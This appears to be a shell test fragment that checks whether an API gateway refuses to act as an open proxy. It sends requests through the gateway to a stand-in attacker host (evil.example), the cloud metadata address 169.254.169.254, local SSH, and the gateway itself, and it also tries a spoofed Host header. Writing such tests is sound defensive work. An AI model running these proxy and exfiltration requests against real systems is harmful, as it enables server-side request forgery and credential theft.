# The gateway as a proxy to anywhere.
refused absolute --proxy "$root" -X POST -d "$body" http://evil.example/
refused absolute-key --proxy "$root" -X POST -d "$body" "http://generativelanguage.googleapis.com$m:generateContent"
refused connect --proxy "$root" --proxytunnel https://evil.example/
refused connect-host --proxy "$root" --proxytunnel https://127.0.0.1:22/
refused connect-self --proxy "$root" --proxytunnel http://gateway:8080/
refused connect-meta --proxy "http://abl:$token@gateway:8080" --proxytunnel http://169.254.169.254:80/
refused socks --socks5 gateway:8080 http://evil.example/
code=$(ask -H 'Host: evil.example' -X POST -d "$body" "$base$m:countTokens"); case $code in 2??|4??) held "host header $code";; *) hole "host header $code";; esac
